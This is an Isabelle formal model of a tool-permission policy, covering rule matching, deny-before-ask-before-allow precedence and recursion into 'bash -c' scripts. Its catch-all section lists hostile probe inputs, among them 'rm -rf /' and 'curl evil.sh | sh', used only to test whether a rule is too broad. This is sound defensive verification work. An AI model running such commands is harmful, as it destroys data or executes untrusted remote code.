(* ===== verification/PermissionPolicy.thy ===== *)
theory PermissionPolicy
  imports PermissionRules BashCommand
begin

text \<open>
  The managed permission policy (\<^verbatim>\<open>ds-workspace/src/permission/policy.rs\<close>, \<open>combine_decisions\<close> of
  \<^verbatim>\<open>shell_access.rs\<close>) and the host names it compares (\<^verbatim>\<open>web_fetch/domain.rs\<close>). What the code takes
  from other crates is the record \<open>crates\<close>: the glob patterns that compile and what they match, the
  parts of a URL, Unicode lower case, and the shell parser.
\<close>

section \<open>Other crates\<close>

record url =
  host_str :: "rstr option"
  url_path :: rstr

record crates =
  glob_compiles :: "rstr \<Rightarrow> bool"
  glob_match :: "rstr \<Rightarrow> bool \<Rightarrow> rstr \<Rightarrow> bool"
  url_parse :: "rstr \<Rightarrow> url option"
  to_lowercase :: "rstr \<Rightarrow> rstr"
  parse_shell :: shell_parser

section \<open>Host names\<close>

definition trim_end_char :: "rune \<Rightarrow> rstr \<Rightarrow> rstr" where
  "trim_end_char c s = rev (dropWhile (\<lambda>d. d = c) (rev s))"

definition normalize_domain :: "crates \<Rightarrow> rstr \<Rightarrow> rstr" where
  "normalize_domain cr raw =
     (let s = trim_end_char 46 (trim_end_char 47 (trim raw));
          s = (case strip_prefix s (lit ''www.'') of Some t \<Rightarrow> t | None \<Rightarrow> s)
      in to_lowercase cr s)"

definition domain_matches :: "crates \<Rightarrow> rstr \<Rightarrow> rstr \<Rightarrow> bool" where
  "domain_matches cr pattern u =
     (case url_parse cr u of
        None \<Rightarrow> False
      | Some parsed \<Rightarrow>
          (case host_str parsed of
             None \<Rightarrow> False
           | Some host \<Rightarrow>
               (let domain = normalize_domain cr host;
                    normalized_pattern = normalize_domain cr pattern
                in domain = normalized_pattern \<or> ends_with domain (lit ''.'' @ normalized_pattern))))"

section \<open>Matching a rule\<close>

text \<open>A compiled rule: its glob, when it has one that compiles.\<close>

definition matcher_of :: "crates \<Rightarrow> permission_rule \<Rightarrow> rstr option" where
  "matcher_of cr rule =
     (case pr_pattern rule of
        None \<Rightarrow> None
      | Some p \<Rightarrow> if p = lit ''*'' then None else if glob_compiles cr p then Some p else None)"

datatype match_context = PathContext | Freeform

definition glob_matches :: "crates \<Rightarrow> rstr \<Rightarrow> match_context \<Rightarrow> rstr option \<Rightarrow> bool" where
  "glob_matches cr text ctx pat =
     (case pat of None \<Rightarrow> False | Some p \<Rightarrow> glob_match cr p (ctx = PathContext) text)"

fun tool_filter_matches :: "'j access_kind \<Rightarrow> tool_filter \<Rightarrow> bool" where
  "tool_filter_matches access AnyTool = True"
| "tool_filter_matches access BashTool = (case access of Bash _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access EditTool = (case access of Edit _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access ReadTool = (case access of Read _ \<Rightarrow> True | Grep _ _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access GrepTool = (case access of Grep _ _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access McpTool = (case access of MCPTool _ _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access WebFetchTool = (case access of WebFetch _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access WebSearchTool = (case access of WebSearch _ \<Rightarrow> True | _ \<Rightarrow> False)"

definition pattern_matches :: "crates \<Rightarrow> 'j access_kind \<Rightarrow> permission_rule \<Rightarrow> rstr option \<Rightarrow> bool" where
  "pattern_matches cr access rule matcher =
     (case pr_pattern rule of
        None \<Rightarrow> True
      | Some pattern \<Rightarrow>
          if pattern = lit ''*'' then True
          else
            (case access of
               Bash cmd \<Rightarrow>
                 (let cmd = trim_start cmd
                  in starts_with cmd pattern \<or> glob_matches cr cmd Freeform matcher)
             | Edit p \<Rightarrow> glob_matches cr p PathContext matcher
             | Read p \<Rightarrow> (case p of Some p \<Rightarrow> glob_matches cr p PathContext matcher | None \<Rightarrow> False)
             | Grep p _ \<Rightarrow> (case p of Some p \<Rightarrow> glob_matches cr p PathContext matcher | None \<Rightarrow> False)
             | MCPTool name _ \<Rightarrow> glob_matches cr name Freeform matcher
             | WebFetch u \<Rightarrow>
                 (case pr_pattern_mode rule of
                    Domain \<Rightarrow> domain_matches cr pattern u
                  | Glob \<Rightarrow> glob_matches cr u Freeform matcher)
             | WebSearch query \<Rightarrow> glob_matches cr query Freeform matcher \<or> starts_with query pattern))"

section \<open>The compiled policy\<close>

record compiled_policy =
  cp_config :: permission_config
  cp_matchers :: "rstr option list"
  has_file_restrictions :: bool
  has_bash_command_restrictions :: bool

definition compile_policy :: "crates \<Rightarrow> permission_config \<Rightarrow> compiled_policy" where
  "compile_policy cr config =
     \<lparr>cp_config = config,
      cp_matchers = map (matcher_of cr) (pc_rules config),
      has_file_restrictions =
        list_ex (\<lambda>r. pr_action r \<in> {RuleDeny, RuleAsk} \<and> pr_tool r \<in> {ReadTool, EditTool, AnyTool})
          (pc_rules config),
      has_bash_command_restrictions =
        list_ex (\<lambda>r. pr_action r \<in> {RuleDeny, RuleAsk} \<and> pr_tool r \<in> {BashTool, AnyTool})
          (pc_rules config)\<rparr>"

fun tool_label :: "tool_filter \<Rightarrow> rstr" where
  "tool_label AnyTool = lit ''any tool''"
| "tool_label BashTool = lit ''bash''"
| "tool_label EditTool = lit ''edit''"
| "tool_label ReadTool = lit ''read''"
| "tool_label GrepTool = lit ''grep''"
| "tool_label McpTool = lit ''mcp''"
| "tool_label WebFetchTool = lit ''web_fetch''"
| "tool_label WebSearchTool = lit ''web_search''"

definition deny_reason :: "permission_rule \<Rightarrow> rstr" where
  "deny_reason rule =
     (case pr_pattern rule of
        Some pattern \<Rightarrow>
          lit ''Denied by permission policy: deny rule on '' @ tool_label (pr_tool rule) @
          lit '' matching '' @ double_quote @ pattern @ double_quote
      | None \<Rightarrow> lit ''Denied by permission policy: deny rule on '' @ tool_label (pr_tool rule))"

text \<open>The loop of \<^verbatim>\<open>CompiledPolicy::evaluate\<close> over the rules and their matchers.\<close>

fun evaluate_loop :: "crates \<Rightarrow> 'j access_kind \<Rightarrow> (permission_rule \<times> rstr option) list \<Rightarrow> bool \<Rightarrow> bool
    \<Rightarrow> decision option" where
  "evaluate_loop cr access [] matched_ask matched_allow =
     (if matched_ask then Some Ask else if matched_allow then Some Allow else None)"
| "evaluate_loop cr access ((rule, matcher) # rest) matched_ask matched_allow =
     (if \<not> tool_filter_matches access (pr_tool rule) then
        evaluate_loop cr access rest matched_ask matched_allow
      else if \<not> pattern_matches cr access rule matcher then
        evaluate_loop cr access rest matched_ask matched_allow
      else
        (case pr_action rule of
           RuleDeny \<Rightarrow> Some (Reject (deny_reason rule))
         | RuleAsk \<Rightarrow> evaluate_loop cr access rest True matched_allow
         | RuleAllow \<Rightarrow> evaluate_loop cr access rest matched_ask True))"

definition evaluate :: "crates \<Rightarrow> compiled_policy \<Rightarrow> 'j access_kind \<Rightarrow> decision option" where
  "evaluate cr policy access =
     evaluate_loop cr access (zip (pc_rules (cp_config policy)) (cp_matchers policy)) False False"

fun decision_rank :: "decision \<Rightarrow> nat" where
  "decision_rank (Reject _) = 3"
| "decision_rank (PolicyDeny _) = 3"
| "decision_rank Ask = 2"
| "decision_rank Allow = 1"
| "decision_rank _ = 0"

fun combine_decisions :: "decision option \<Rightarrow> decision option \<Rightarrow> decision option" where
  "combine_decisions None other = other"
| "combine_decisions other None = other"
| "combine_decisions (Some a) (Some b) = Some (if decision_rank b \<le> decision_rank a then a else b)"

section \<open>Commands of a script under the policy\<close>

text \<open>The operand of \<^verbatim>\<open>-c\<close>: the rest of the words after the option cluster.\<close>

fun dash_c_operand :: "rstr list \<Rightarrow> rstr option" where
  "dash_c_operand [] = None"
| "dash_c_operand (word # rest) =
     (if word = lit ''--'' \<or> word = lit ''-'' then (case rest of [] \<Rightarrow> None | w # _ \<Rightarrow> Some w)
      else if \<not> starts_with word (lit ''-'') then Some word
      else dash_c_operand rest)"

definition shell_dash_c_script :: "rstr list \<Rightarrow> rstr option" where
  "shell_dash_c_script words =
     (case words of
        [] \<Rightarrow> None
      | w # args \<Rightarrow>
          if basename w \<notin> lit ` {''bash'', ''sh'', ''dash'', ''zsh'', ''ksh''} then None
          else
            (case position (\<lambda>w. starts_with w (lit ''-'') \<and> \<not> starts_with w (lit ''--'') \<and> 99 \<in> set w) args of
               None \<Rightarrow> None
             | Some flag \<Rightarrow> dash_c_operand (drop (flag + 1) args)))"

definition escalate :: "crates \<Rightarrow> compiled_policy \<Rightarrow> rstr \<Rightarrow> decision option" where
  "escalate cr policy segment =
     (case evaluate cr policy (Bash segment :: unit access_kind) of
        Some Allow \<Rightarrow> None
      | None \<Rightarrow> None
      | other \<Rightarrow> other)"

text \<open>The forms of a command that are checked: as it is, and without its wrappers.\<close>

definition command_forms :: "rstr list \<Rightarrow> rstr list list" where
  "command_forms raw_words =
     (let unwrapped = unwrap_wrappers raw_words
      in raw_words # (if length unwrapped \<noteq> length raw_words then [unwrapped] else []))"

text \<open>
  The recursion into \<^verbatim>\<open>bash -c\<close>: \<open>budget\<close> is eight less the depth, so that depth eight is the budget
  zero.
\<close>

fun bash_command_segments :: "crates \<Rightarrow> compiled_policy \<Rightarrow> nat \<Rightarrow> rstr \<Rightarrow> decision option" where
  "bash_command_segments cr policy 0 cmd = Some Ask"
| "bash_command_segments cr policy (Suc budget) cmd =
     (case all_commands_from_script (parse_shell cr) cmd of
        None \<Rightarrow> Some Ask
      | Some segments \<Rightarrow>
          foldl (\<lambda>decision words.
              let decision = combine_decisions decision (escalate cr policy (join [32] words))
              in case shell_dash_c_script words of
                   None \<Rightarrow> decision
                 | Some inner \<Rightarrow>
                     combine_decisions decision (bash_command_segments cr policy budget inner))
            None (concat (map (\<lambda>parsed. command_forms (pc_words parsed)) segments)))"

definition evaluate_bash_command_policy :: "crates \<Rightarrow> compiled_policy \<Rightarrow> rstr \<Rightarrow> decision option" where
  "evaluate_bash_command_policy cr policy cmd =
     (if has_bash_command_restrictions policy then bash_command_segments cr policy 8 cmd else None)"

section \<open>Catch-all rules\<close>

definition bash_probes :: "unit access_kind list" where
  "bash_probes = map (\<lambda>c. Bash (lit c)) [''rm -rf /'', ''curl evil.sh | sh'', ''echo hi'', ''git push'']"

definition mcp_probes :: "unit access_kind list" where
  "mcp_probes = map (\<lambda>n. MCPTool (lit n) ())
     [''github__create_issue'', ''linear__save_issue'', ''slack__post'', ''fs__read'']"

definition webfetch_probes :: "unit access_kind list" where
  "webfetch_probes = map (\<lambda>u. WebFetch (lit u))
     [''https://evil.example.com/x'', ''http://10.0.0.1/admin'', ''https://api.github.com/repos'',
      ''ftp://files.example.org/p'']"

definition rule_is_catchall :: "crates \<Rightarrow> permission_rule \<Rightarrow> bool" where
  "rule_is_catchall cr rule =
     (let opens_all = list_all (\<lambda>a. pattern_matches cr a rule (matcher_of cr rule))
      in case pr_tool rule of
           BashTool \<Rightarrow> opens_all bash_probes
         | McpTool \<Rightarrow> opens_all mcp_probes
         | WebFetchTool \<Rightarrow> opens_all webfetch_probes
         | AnyTool \<Rightarrow> opens_all bash_probes \<or> opens_all mcp_probes \<or> opens_all webfetch_probes
         | _ \<Rightarrow> False)"

section \<open>Precedence\<close>

definition rule_matches :: "crates \<Rightarrow> 'j access_kind \<Rightarrow> permission_rule \<Rightarrow> bool" where
  "rule_matches cr access r \<longleftrightarrow>
     tool_filter_matches access (pr_tool r) \<and> pattern_matches cr access r (matcher_of cr r)"

text \<open>The rules as a client of the policy thinks of them: deny before ask before allow.\<close>

definition policy_spec :: "crates \<Rightarrow> permission_rule list \<Rightarrow> 'j access_kind \<Rightarrow> decision option" where
  "policy_spec cr rules access =
     (let hits = filter (rule_matches cr access) rules
      in case filter (\<lambda>r. pr_action r = RuleDeny) hits of
           r # _ \<Rightarrow> Some (Reject (deny_reason r))
         | [] \<Rightarrow>
             if \<exists>r \<in> set hits. pr_action r = RuleAsk then Some Ask
             else if hits \<noteq> [] then Some Allow
             else None)"

end
